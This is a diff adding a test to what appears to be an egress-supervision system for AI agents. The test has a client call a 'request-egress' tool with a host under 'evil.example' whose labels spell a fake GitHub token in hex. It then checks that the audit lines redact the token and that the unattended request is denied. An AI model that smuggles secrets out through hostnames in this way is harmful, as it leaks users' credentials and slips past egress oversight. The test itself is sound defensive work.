@@ -253,6 +253,20 @@ describe("no person, no hang", () => {
     expect(lines[1]).toMatchObject({ decision: "block", status: 403 });
   });
 
+  test("a host that spells a token (hex in its labels) is redacted in the supervise audit lines, as a CONNECT to it is", async () => {
+    // The attack (a hunt for leaks, this round): request-egress's host went into the
+    // audit line raw, a GitHub token in hex across two labels, recoverable from the log.
+    await using world = await superviseWorld({ allow_cidrs: ["127.0.0.0/8"] }, { attended: false });
+    const hex = Buffer.from(`ghp_${"Zq7".repeat(12)}`).toString("hex");
+    const host = `${hex.slice(0, 40)}.${hex.slice(40)}.evil.example`;
+    const client = await world.connect();
+    await client.callTool({ name: "request-egress", arguments: { host, justification: "for a build" } });
+    const lines = await world.auditLines();
+    expect(lines.map((line) => line.reason)).toEqual(["supervise:requested", "supervise:unattended"]);
+    for (const line of lines) expect(line.host).toBe("[REDACTED:github-token]");
+    expect(JSON.stringify(lines)).not.toContain(hex.slice(0, 40));
+  });
+
   test("a request no one decides expires as denied; approving it afterwards is refused", async () => {
     await using world = await superviseWorld({ allow_cidrs: ["127.0.0.0/8"] }, { wait_seconds: 5, expire_after_seconds: 1 });
     const client = await world.connect();
